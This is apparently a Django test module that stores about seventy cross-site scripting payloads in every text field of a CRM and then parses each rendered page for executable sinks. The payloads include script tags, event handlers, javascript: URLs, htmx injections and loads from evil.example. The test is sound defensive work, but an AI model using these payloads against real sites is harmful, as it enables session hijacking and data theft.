"""Stored XSS: hostile text saved through every field users fill, then every page shown.

Each payload carries its own marker. The payloads are spread over the text
fields of every kind of record, mostly through the API and a few through the
HTML forms; then every page and htmx fragment that takes no id, or the id of
one of those records, is fetched as the admin and parsed. No executable sink
may come out: no inline or foreign script, no event-handler attribute, no
`javascript:` URL, no htmx attribute carrying user text, no frame, object,
base or refresh from user data.
"""

import re
from html.parser import HTMLParser
from itertools import cycle

from django.urls import get_resolver
from django_scopes import scope

from accord.core.tests.test_tenant_isolation import PARAM, fill, walk
from accord.customers.models import CustomField
from accord.identity import services as identity_services
from accord.identity.models import Membership
from accord.relationships import services as relationship_services
from accord.reports import services as report_services
from accord.service import canned, knowledge

PAYLOADS = [
    "<script>alert('{m}')</script>",
    '<ScRiPt>alert("{m}")</sCrIpT>',
    '<script src="//evil.example/{m}.js"></script>',
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<<script>script>alert('{m}')<</script>/script>",
    "</title></textarea></style><script>alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(`{m}`)" alt="{m}">',
    "<IMG SRC=x OnErRoR=alert('{m}')>",
    "<img/src=x/onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>{m}</text></a></svg>",
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "&#106;avascript:alert('{m}')",
    "java&#x09;script:alert('{m}')",
    " \tjavascript:alert('{m}')",
    'vbscript:msgbox("{m}")',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}",
    "javascript://%0Aalert('{m}')",
    "JaVaScRiPt://evil.example/%0Aalert('{m}')",
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "<a href=\"&#x6A;avascript:alert('{m}')\">{m}</a>",
    "<a href=\"jav&#x0A;ascript:alert('{m}')\">{m}</a>",
    "<a href=\"data:text/html,<script>alert('{m}')</script>\">{m}</a>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"data:text/html,<script>alert('{m}')</script>\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    "<style>@import 'https://evil.example/{m}.css';</style>",
    "<div style=\"background:url(javascript:alert('{m}'))\">{m}</div>",
    "<p style=\"background:url(j\\61 vascript:alert('{m}'))\">{m}</p>",
    "<p style=\"width:expr/**/ession(alert('{m}'))\">{m}</p>",
    "\" onmouseover=\"alert('{m}')\" x=\"",
    "' onfocus='alert(\"{m}\")' autofocus x='",
    "'><script>alert('{m}')</script>",
    "\"><img src=x onerror=alert('{m}')>",
    "</a><a href=\"javascript:alert('{m}')\">{m}",
    "{{{{ '{m}'|upper }}}}",
    "{{% filter upper %}}{m}{{% endfilter %}}",
    "{{{{ contact.first_name|upper }}}}{{{{ '{m}'|upper }}}}",
    '<div hx-get="/contacts/?{m}" hx-trigger="load">{m}</div>',
    '<button hx-post="/logout" hx-trigger="load" id="{m}">x</button>',
    "<div hx-on:click=\"alert('{m}')\">{m}</div>",
    "<div hx-on::load=\"alert('{m}')\" id=\"{m}\"></div>",
    '<div data-hx-get="/settings/?{m}" data-hx-trigger="load"></div>',
    "<div hx-vals='js:{{a: alert(\"{m}\")}}' hx-get=\"/\" hx-trigger=\"load\"></div>",
    '<a hx-boost="true" hx-target="body" href="/logout?{m}">{m}</a>',
    "<form action=\"javascript:alert('{m}')\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert('{m}')\">{m}</button></form>",
    '<base href="https://evil.example/{m}/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('{m}')>\">",
    "<details open ontoggle=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<x onclick=alert('{m}')>click</x>",
    "<table background=\"javascript:alert('{m}')\">",
    "<template><script>alert('{m}')</script></template>",
    "<!--><img src=x onerror=alert('{m}')>-->",
    "<![CDATA[><img src=x onerror=alert('{m}')>]]>",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "<link rel=stylesheet href=\"https://evil.example/{m}.css\">",
]


def marker(number: int) -> str:
    return f"zx{number:02d}q"


PAYLOAD_TEXTS = [payload.format(m=marker(number)) for number, payload in enumerate(PAYLOADS)]
MARKER = re.compile(r"zx\d\dq", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background",
                  "poster", "codebase", "cite", "srcset", "ping", "to", "from", "values"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
FORBIDDEN_ELEMENTS = {"object", "embed", "applet", "base", "frame", "frameset"}


STYLE_SCRIPT = re.compile(r"javascript:|vbscript:|expression\(|behavior:|-moz-binding|@import")


def css_as_read(value: str) -> str:
    """A style attribute without comments, escapes, spaces or capitals."""
    text = re.sub(r"/\*.*?(\*/|$)", "", value, flags=re.S)
    text = re.sub(r"\\([0-9a-fA-F]{1,6})\s?",
                  lambda found: chr(min(int(found.group(1), 16), 0x10FFFF)), text)
    return re.sub(r"\\|\s", "", text).lower()


def normalised_url(value: str) -> str:
    """The URL as a browser reads its scheme: no control characters or spaces, lower case."""
    return "".join(char for char in value if ord(char) > 32).lower()


class SinkFinder(HTMLParser):
    """Collects every place in a page where script could run.

    The standard library's parser reads tags inside <textarea>, <title> and
    <noscript> where a browser reads text, so it may report what a browser
    would not run. It differs from browsers on some malformed markup (odd
    comments, foreign content); such markup could only come from the
    sanitisers, which parse and re-serialise as browsers do (html5ever),
    since all other user text is escaped.
    """

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.sinks: list[str] = []
        self.in_script = False

    def sink(self, what: str, text: str) -> None:
        found = MARKER.search(text)
        self.sinks.append(f"{what} [{found.group(0) if found else 'no marker'}]: {text[:120]}")

    def handle_starttag(self, tag, attrs):
        shown = self.get_starttag_text() or tag
        attributes = {name: value or "" for name, value in attrs}
        if tag == "script":
            self.in_script = True
            if not attributes.get("src", "").startswith("/static/"):
                self.sink("script from elsewhere", shown)
        if tag in FORBIDDEN_ELEMENTS:
            self.sink(f"<{tag}>", shown)
        if tag == "meta" and "http-equiv" in attributes:
            self.sink("meta http-equiv", shown)
        if tag == "style":
            self.sink("style element", shown)
        if tag == "link" and MARKER.search(shown):
            self.sink("link from user data", shown)
        if tag == "iframe":
            self.check_frame(attributes, shown)
        elif "srcdoc" in attributes:
            self.sink("srcdoc", shown)
        hx_element = any(name.startswith(("hx-", "data-hx-")) for name in attributes)
        for name, value in attributes.items():
            if name.startswith("on"):
                self.sink("event handler", shown)
            if name in URL_ATTRIBUTES and normalised_url(value).startswith(BAD_SCHEMES):
                self.sink(f"{name} with a script URL", shown)
            if name.startswith(("hx-on", "data-hx-on")):
                self.sink("htmx handler", shown)
            if hx_element and MARKER.search(f"{name}={value}"):
                self.sink("htmx attribute on user data", shown)
            if name == "style" and STYLE_SCRIPT.search(css_as_read(value)):
                self.sink("style attribute with script", shown)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.in_script = False

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.sink("inline script", data)

    def check_frame(self, attributes: dict, shown: str) -> None:
        """A frame is allowed only sandboxed without scripts, and its document is checked too."""
        sandbox = attributes.get("sandbox")
        if sandbox is None or "allow-scripts" in sandbox.split():
            self.sink("frame that may run script", shown)
        if normalised_url(attributes.get("src", "")).startswith(BAD_SCHEMES):
            self.sink("frame with a script URL", shown)
        if "srcdoc" in attributes:
            inside = find_sinks(attributes["srcdoc"])
            self.sinks.extend(f"inside srcdoc: {sink}" for sink in inside)


def find_sinks(page: str) -> list[str]:
    """Every executable sink in the HTML `page`, each with the marker it carries."""
    finder = SinkFinder()
    finder.feed(page)
    finder.close()
    sinks = finder.sinks
    # Text that was run as a template comes out in capitals.
    sinks += [f"template evaluated user text [{found}]"
              for found in re.findall(r"ZX\d\dQ", page)]
    return sinks


def test_the_sink_finder_catches_injected_handlers_and_script_urls():
    page = ("<html><head><script src='/static/app.js'></script></head><body>"
            "<p>Ada</p><img src=x onerror=\"alert('zx01q')\">"
            "<a href=' JaVa&#x09;ScRiPt:alert(1)'>zx02q</a>"
            "<div hx-get='/x?zx03q' hx-trigger='load'></div>"
            "<iframe sandbox srcdoc=\"<svg onload=alert('zx04q')>\"></iframe>"
            "<script>alert('zx05q')</script>ZX06Q</body></html>")

    sinks = find_sinks(page)

    assert [sink.split(" [")[0] for sink in sinks] == [
        "event handler", "href with a script URL", "htmx attribute on user data",
        "inside srcdoc: event handler", "script from elsewhere", "inline script",
        "template evaluated user text"]
    assert find_sinks("<html><head><script src='/static/app.js'></script></head><body>"
                      "<a href='/contacts/1/' hx-get='/contacts/1/'>&lt;script&gt;zx01q</a>"
                      "<iframe sandbox srcdoc='&lt;p&gt;hi'></iframe></body></html>") == []


class Payloads:
    """Hands out the payloads in turn, so that each lands in several fields and each field
    gets several; remembers which field got which."""

    def __init__(self):
        self.turn = cycle(range(len(PAYLOAD_TEXTS)))
        self.placed: dict[str, set[int]] = {}

    def __call__(self, field: str, limit: int = 250) -> str:
        number = next(self.turn)
        while len(PAYLOAD_TEXTS[number]) > limit:
            number = next(self.turn)
        self.placed.setdefault(field, set()).add(number)
        return PAYLOAD_TEXTS[number]

    def url(self, field: str) -> str:
        """A link-looking payload, for fields that hold a web address; counted as placed
        only once the field took it (see `took`)."""
        self.offered = field, next(self.url_turn)
        return PAYLOAD_TEXTS[self.offered[1]]

    def took(self) -> None:
        field, number = self.offered
        self.placed.setdefault(field, set()).add(number)

    url_turn = cycle([number for number, text in enumerate(PAYLOAD_TEXTS)
                      if re.match(r"\s*(java|vbscript|data:|&#)", text, re.I)])


def api_post(api, url: str, body: dict) -> dict:
    response = api.post(url, body, content_type="application/json")
    assert response.status_code == 201, f"{url}: {response.content[:400]!r}"
    return response.json()


def store_everything(org, admin, api, web) -> tuple[dict[str, list], Payloads]:
    """Records of every kind with the payloads in their text fields; their ids by kind."""
    put = Payloads()
    ids: dict[str, list] = {}

    def keep(kind: str, made: dict, key: str = "id") -> dict:
        if made:
            ids.setdefault(kind, []).append(made[key])
        return made

    for entity in ("contact", "company", "deal", "ticket"):
        submit(web, "/settings/custom-fields/new", {
            "entity": entity, "key": "story", "field_type": "text",
            "label": put(f"{entity} custom field label", 80),
            "help_text": put(f"{entity} custom field help", 200)})
        submit(web, "/settings/custom-fields/new", {
            "entity": entity, "key": "site", "field_type": "url", "label": "Site"})
    with scope(organization=org):
        role = relationship_services.save_role(org, admin.user, data={
            "label": put("relationship role label", 60),
            "inverse_label": put("relationship role inverse", 60)})
        team = identity_services.save_team(org, admin.user, name=put("team name", 100))
        ids["team"] = [team.pk]
        for _ in range(2):
            token, _raw = identity_services.create_token(org, admin.user,
                                                         name=put("api token name", 100))
            keep("token", {"id": token.pk})
            keep("category", {"id": knowledge.create_category(org, admin.user, data={
                "name": put("article category name", 120)}).pk})
            keep("canned reply", {"id": canned.create_canned(org, admin.user, data={
                "name": put("canned reply name", 100), "body": put("canned reply body")}).pk})
            keep("dashboard", {"id": report_services.create_dashboard(
                org, admin.user, name=put("dashboard name", 100)).pk})

    pipeline = keep("pipeline", api_post(api, "/api/v1/pipelines", {
        "name": put("pipeline name", 100), "stages": [
            {"name": put("stage name", 60)}, {"name": put("stage name", 60), "kind": "won"},
            {"name": put("stage name", 60), "kind": "lost"}]}))
    keep("stage", api_post(api, f"/api/v1/pipelines/{pipeline['id']}/stages", {
        "name": put("stage name", 60), "probability": 50}))
    for _ in range(2):
        keep("rule", api_post(api, "/api/v1/rules", {
            "name": put("rule name", 100), "trigger": "created",
            "settings": {"entity": "contact"},
            "actions": [{"type": "add_tag", "tag": put("rule tag", 50)},
                        {"type": "create_task", "subject": put("rule task subject"),
                         "days": 2}]}))
        calendar = keep("calendar", api_post(api, "/api/v1/business-calendars", {
            "name": put("business calendar name", 100), "time_zone": "UTC",
            "hours": {"0": [["09:00", "17:00"]]}}))
        keep("sla policy", api_post(api, "/api/v1/sla-policies", {
            "name": put("sla policy name", 100), "calendar_id": calendar["id"],
            "first_response_minutes": 60}))
        keep("retention rule", api_post(api, "/api/v1/retention-rules", {
            "name": put("retention rule name", 100), "entity": "activity",
            "age_days": 3650, "action": "delete", "is_active": False}))
    queue = keep("queue", api_post(api, "/api/v1/queues", {"name": put("queue name", 80)}))
    template = {}
    for round_ in range(3):
        company = keep("company", api_post(api, "/api/v1/companies", {
            "name": put("company name"), "industry": put("company industry", 100),
            "description": put("company description"), "street": put("company street"),
            "city": put("company city", 100), "region": put("company region", 100),
            "source": put("company source", 100), "tags": [put("tag", 50)],
            "custom_fields": {"story": put("company custom text")}}))
        # Link fields refuse what is not a web address; whatever they take is rendered.
        for url, body in [
                ("/api/v1/companies", {"name": "Linked", "website": put.url("company website")}),
                ("/api/v1/contacts", {"last_name": "Linked", "custom_fields": {
                    "site": put.url("contact custom link")}}),
                ("/api/v1/leads", {"last_name": "Linked", "website": put.url("lead website")})]:
            answer = api.post(url, body, content_type="application/json")
            assert answer.status_code in (201, 422), answer.content
            if answer.status_code == 201:
                put.took()
        contact = keep("contact", api_post(api, "/api/v1/contacts", {
            "first_name": put("contact first name", 100),
            "last_name": put("contact last name", 100), "title": put("contact title", 100),
            "email": f"person{round_}@example.com", "company_id": company["id"],
            "street": put("contact street"), "city": put("contact city", 100),
            "source": put("contact source", 100), "tags": [put("tag", 50)],
            "custom_fields": {"story": put("contact custom text")}}))
        deal = keep("deal", api_post(api, "/api/v1/deals", {
            "name": put("deal name"), "next_step": put("deal next step"),
            "description": put("deal description"), "source": put("deal source", 100),
            "company_id": company["id"], "amount": "100.00", "pipeline_id": pipeline["id"],
            "contacts": [{"contact_id": contact["id"], "role": put("deal contact role", 60)}],
            "custom_fields": {"story": put("deal custom text")}}))
        for kind in ("note", "task", "call", "email"):
            keep("activity", api_post(api, "/api/v1/activities", {
                "kind": kind, "subject": put(f"{kind} subject", 200),
                "body": put(f"{kind} body"), "contact_id": contact["id"],
                "company_id": company["id"]}))
        keep("lead", api_post(api, "/api/v1/leads", {
            "first_name": put("lead first name", 100), "last_name": put("lead last name", 100),
            "title": put("lead title", 100), "company_name": put("lead company name"),
            "industry": put("lead industry", 100), "source": put("lead source", 100),
            "description": put("lead description"), "email": f"lead{round_}@example.com"}))
        keep("product", api_post(api, "/api/v1/products", {
            "sku": f"SKU-{round_}", "name": put("product name"),
            "description": put("product description"), "category": put("product category"),
            "unit_price": "9.50", "currency": "EUR"}))
        ticket = keep("ticket", api_post(api, "/api/v1/tickets", {
            "subject": put("ticket subject"), "body": put("ticket body"),
            "contact_id": contact["id"], "queue_id": queue["id"],
            "tags": [put("tag", 50)],
            "custom_fields": {"story": put("ticket custom text")}}), "number")
        for kind in ("note", "inbound", "reply"):
            api_post(api, f"/api/v1/tickets/{ticket['id']}/messages", {
                "kind": kind, "body": put(f"ticket {kind} message")})
        keep("article", api_post(api, "/api/v1/articles", {
            "title": put("article title"), "body": " ".join(put("article body")
                                                            for _ in range(4)),
            "visibility": "public", "status": "published",
            "category_id": ids["category"][round_ % 2]}))
        segment = keep("segment", api_post(api, "/api/v1/segments", {
            "name": put("segment name", 100), "description": put("segment description"),
            "conditions": {"all": []}}))
        template = keep("template", api_post(api, "/api/v1/templates", {
            "name": put("template name", 100), "subject": put("template subject"),
            "html": "<p>Hello</p>" + "".join(put("template html") for _ in range(4)),
            "text": put("template text")}))
        keep("campaign", api_post(api, "/api/v1/campaigns", {
            "name": put("campaign name", 100), "template_id": template["id"],
            "segment_id": segment["id"], "from_name": "Northwind",
            "from_email": "news@example.com", "subject_b": put("campaign subject b")}))
        keep("sequence", api_post(api, "/api/v1/sequences", {
            "name": put("sequence name", 100), "description": put("sequence description"),
            "from_name": "Northwind", "from_email": "news@example.com",
            "steps": [{"type": "email", "template": template["id"]},
                      {"type": "task", "subject": put("sequence task subject"), "days": 1},
                      {"type": "add_tag", "tag": put("tag", 50)}]}))
        form = keep("form", api_post(api, "/api/v1/forms", {
            "name": put("web form name", 100), "thank_you": put("web form thank you"),
            "consent_text": put("web form consent text"), "fields": [
                {"name": "email", "label": put("web form field label", 100)},
                {"name": "first_name", "label": put("web form field label", 100)}]}))
        keep("form key", form, "public_key")
        keep("report", api_post(api, "/api/v1/reports", {
            "name": put("report name", 100), "is_shared": True,
            "definition": [
                {"entity": "contacts", "group_by": ["source"]},
                {"entity": "companies", "group_by": ["industry"]},
                {"entity": "deals", "group_by": ["stage"]}][round_]}))
        record_type = api_post(api, "/api/v1/record-types", {
            "key": f"thing{round_}", "singular": put("record type singular", 60),
            "plural": put("record type plural", 60),
            "description": put("record type description"), "title_field": "name",
            "fields": [{"key": "name", "label": put("record field label", 80),
                        "type": "text"},
                       {"key": "notes", "label": put("record field label", 80),
                        "type": "long_text"},
                       {"key": "client", "type": "contact"}]})
        keep("record type", record_type)
        keep("*record field", {"value": {"pk": record_type["id"],
                                         "field_pk": record_type["fields"][0]["id"]}}, "value")
        keep("type key", record_type, "key")
        record = keep("record", api_post(api, f"/api/v1/records/thing{round_}", {
            "values": {"name": put("record name"), "notes": put("record notes"),
                       "client": contact["id"]}}))
        keep("activity", api_post(api, "/api/v1/activities", {
            "kind": "note", "body": put("record note body"),
            "custom_record_id": record["id"]}))
        if round_:
            related = api_post(api, f"/api/v1/contacts/{contact['id']}/relationships", {
                "related_id": ids["contact"][0], "role": role.key,
                "note": put("relationship note")})
            keep("*relationship", {"value": {"pk": contact["id"],
                                             "relationship_id": related["id"]}}, "value")
        for entity, kind in [("contact", contact), ("company", company), ("deal", deal),
                             ("custom_record", record)]:
            keep("*timeline", {"value": {"entity": entity, "pk": kind["id"]}}, "value")
        keep("subscription", api_post(api, "/api/v1/subscriptions", {
            "contact": contact["id"], "plan_name": put("subscription plan name", 100),
            "mrr": "10.00", "currency": "EUR", "status": "active"}))
        keep("order", api_post(api, "/api/v1/orders", {
            "number": put("order number", 40), "contact": contact["id"], "currency": "EUR",
            "note": put("order note"),
            "lines": [{"product": ids["product"][-1], "quantity": "1",
                       "description": put("order line description"), "unit_price": "9.50"}]}))

    store_through_forms(web, ids, put)
    return ids, put


class FormValues(HTMLParser):
    """What a browser would send from each form of a page if nothing were typed."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict[str, str]] = [{}]
        self.names: list[set[str]] = [set()]
        self.select: str | None = None
        self.textarea: str | None = None

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        name = attributes.get("name")
        if name:
            self.names[-1].add(name)
        if tag == "form":
            self.forms.append({})
            self.names.append(set())
        elif tag == "input" and name and attributes.get("type") not in ("submit", "button"):
            if attributes.get("type") not in ("checkbox", "radio") or "checked" in attributes:
                self.values[name] = attributes.get("value", "")
        elif tag == "select" and name:
            self.select = name
        elif tag == "option" and self.select:
            if self.select not in self.values or "selected" in attributes:
                self.values[self.select] = attributes.get("value", "")
        elif tag == "textarea" and name:
            self.textarea = name
            self.values[name] = ""

    def handle_endtag(self, tag):
        if tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None

    def handle_data(self, data):
        if self.textarea:
            self.values[self.textarea] += data

    @property
    def values(self) -> dict[str, str]:
        return self.forms[-1]


def submit(web, url: str, typed: dict, page: str = "") -> None:
    """Fills in the form on `page` (the page at `url` unless given) as a browser would and
    sends it to `url`."""
    reader = FormValues()
    reader.feed(web.get(page or url).content.decode())
    form = next((form for form, names in zip(reader.forms, reader.names, strict=True)
                if set(typed) <= names), None)
    assert form is not None, f"{url}: no form with {sorted(typed)} in {reader.names}"
    response = web.post(url, {**form, **typed})
    errors = re.findall(r'class="[^"]*error[^"]*"[^>]*>(.*?)<', response.content.decode())
    assert response.status_code == 302, f"{url}: {response.status_code} {errors}"


def store_through_forms(web, ids: dict, put: Payloads) -> None:
    """The same kind of text, typed into the HTML forms."""
    forms = [
        ("/profile", {"full_name": put("member full name", 200)}),
        ("/settings/portal/", {"is_enabled": "on"}),
        (f"/activities/new/?contact={ids['contact'][1]}&kind=task", {
            "kind": "task", "contact": ids["contact"][1], "subject": put("task form subject")}),
        ("/contacts/new/", {"first_name": put("contact form first name", 100),
                            "last_name": put("contact form last name", 100),
                            "title": put("contact form title", 100)}),
        ("/companies/new/", {"name": put("company form name"),
                             "description": put("company form description")}),
        (f"/activities/new/?contact={ids['contact'][0]}", {
            "kind": "note", "contact": ids["contact"][0], "body": put("note form body")}),
        ("/knowledge/new/", {"title": put("article form title"), "body": put("article form body"),
                             "visibility": "public"}),
        (f"/tickets/{ids['ticket'][0]}/reply/", {"kind": "note",
                                                 "body": put("ticket form note")}),
        (f"/contacts/{ids['contact'][2]}/edit/", {"title": put("contact form title", 100)}),
        ("/leads/new/", {"last_name": put("lead form last name", 100),
                         "company_name": put("lead form company name")}),
    ]
    for url, data in forms:
        submit(web, url, data, page=url.replace("reply/", ""))


# Which kind of record fills each route's ids, by the route's start; first match wins.
ROUTE_KINDS = [
    (r"activities/timeline/", "*timeline"),
    (r"contacts/<int:pk>/relationships/<int:relationship_id>/", "*relationship"),
    (r"settings/record-types/<int:pk>/fields/", "*record field"),
    (r"settings/api-tokens/", {"pk": "token"}),
    (r"settings/canned-replies/", {"pk": "canned reply"}),
    (r"settings/rules/", {"pk": "rule"}),
    (r"settings/sla/calendars/", {"pk": "calendar"}),
    (r"settings/sla/policies/", {"pk": "sla policy"}),
    (r"settings/privacy/retention/", {"pk": "retention rule"}),
    (r"settings/members/", {"pk": "membership"}),
    (r"knowledge/categories/", {"pk": "category"}),
    (r"dashboards/", {"pk": "dashboard"}),
    (r"subscriptions/", {"pk": "subscription"}),
    (r"deals/board/<int:pk>/stages/", {"pk": "pipeline", "stage_pk": "stage"}),
    (r"deals/board/", {"pk": "pipeline"}),
    (r"reports/pipelines/", {"pk": "pipeline"}),
    (r"settings/pipelines/", {"pk": "pipeline"}),
    (r"settings/stages/", {"pk": "stage"}),
    (r"settings/teams/", {"pk": "team"}),
    (r"settings/queues/", {"pk": "queue"}),
    (r"settings/custom-fields/", {"pk": "custom field"}),
    (r"settings/record-types/", {"pk": "record type"}),
    (r"records/", {"type_key": "type key", "pk": "record"}),
    (r"contacts/", {"pk": "contact", "contact_pk": "contact"}),
    (r"companies/", {"pk": "company"}),
    (r"deals/", {"pk": "deal"}),
    (r"activities/", {"pk": "activity"}),
    (r"leads/", {"pk": "lead"}),
    (r"tickets/", {"number": "ticket"}),
    (r"knowledge/suggestions/", {"number": "ticket"}),
    (r"knowledge/", {"pk": "article"}),
    (r"orders/", {"pk": "order"}),
    (r"segments/", {"pk": "segment"}),
    (r"campaigns/forms/", {"pk": "form"}),
    (r"f/", {"key": "form key"}),
    (r"templates/", {"pk": "template"}),
    (r"campaigns/", {"pk": "campaign"}),
    (r"sequences/", {"pk": "sequence"}),
    (r"reports/", {"pk": "report"}),
    (r"portal/<slug:org_slug>/articles/", {"org_slug": "org", "pk": "article"}),
    (r"portal/<slug:org_slug>/$", {"org_slug": "org"}),
]
# Pages that would sign the admin out or change what the walk sees.
SKIPPED = re.compile(r"(^|/)(logout|sign-out[\w-]*|switch-organization|delete|remove|revoke|"
                     r"deactivate|cancel|undo|archive|dismiss|end|run|apply|start|replay|"
                     r"restore|merge)/?$|^(api/|healthz|readyz|login|password-reset|"
                     r"invitations|survey|calendar|u/|t/|s/|p/)")
SEARCH_WORDS = ["alert", "script", "javascript", "onerror", "zx01q", "zx40q", "svg", "hx-get"]


def urls_to_visit(ids: dict[str, list]) -> tuple[list[str], int]:
    """Every page URL the walk fetches, and how many routes it could not fill."""
    urls, unfilled = [], 0
    for route, _pattern in walk(get_resolver().url_patterns):
        route = route.lstrip("^").rstrip("$").replace("\\Z", "")
        if SKIPPED.search(route):
            continue
        names = [found.group("name") for found in PARAM.finditer(route)]
        if not names:
            urls.append(fill(route, ""))
            continue
        kinds = next((kinds for start, kinds in ROUTE_KINDS if re.match(start, route)), None)
        if isinstance(kinds, str):
            # Ids that only go together, such as a contact and one of its relationships.
            fillings = ids[kinds]
        elif kinds is not None and set(names) <= set(kinds):
            fillings = [{name: ids[kinds[name]][turn % len(ids[kinds[name]])]
                         for name in names} for turn in range(3)]
        else:
            unfilled += 1
            continue
        for values in fillings:
            urls.append("/" + PARAM.sub(lambda found, values=values: str(
                values[found.group("name")]), route))
    return list(dict.fromkeys(urls)), unfilled


def test_stored_payloads_render_without_an_executable_sink(org, admin, api_client_for,
                                                          client_for):
    api = api_client_for(admin)
    web = client_for(admin)
    ids, put = store_everything(org, admin, api, web)
    with scope(organization=org):
        ids["custom field"] = list(CustomField.objects.values_list("pk", flat=True))
        ids["membership"] = list(Membership.objects.values_list("pk", flat=True))
    ids["org"] = [org.slug]
    urls, unfilled = urls_to_visit(ids)
    fragments = [(f"/search?q={word}", True) for word in SEARCH_WORDS] + [
        (f"/activities/new/?{entity}={ids[entity][0]}&kind={kind}", True)
        for entity in ("contact", "company", "deal") for kind in ("note", "task", "call")]
    pages = [(url, False) for url in urls] + [(url, True) for url in urls
                                              if url.count("/") <= 2] + fragments

    sinks, shown, rendered = [], 0, set()
    for url, htmx in pages:
        headers = {"HX-Request": "true"} if htmx else {}
        response = web.get(url, headers=headers)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        shown += 1
        page = response.content.decode()
        rendered |= set(MARKER.findall(page))
        sinks += [f"{'htmx ' if htmx else ''}GET {url}: {sink}" for sink in find_sinks(page)]

    assert sinks == [], "\n".join(sinks)
    # Every payload was stored, in many fields, and shown (escaped) on some page.
    assert len(PAYLOADS) >= 50
    assert set().union(*put.placed.values()) == set(range(len(PAYLOADS)))
    assert len(put.placed) >= 100
    assert {marker(number) for number in range(len(PAYLOADS))} <= rendered
    # Routes keyed by one-time tokens, imports, attachments and a few settings pages
    # are left out; everything else that shows records was fetched.
    assert unfilled <= 25
    assert shown >= 300
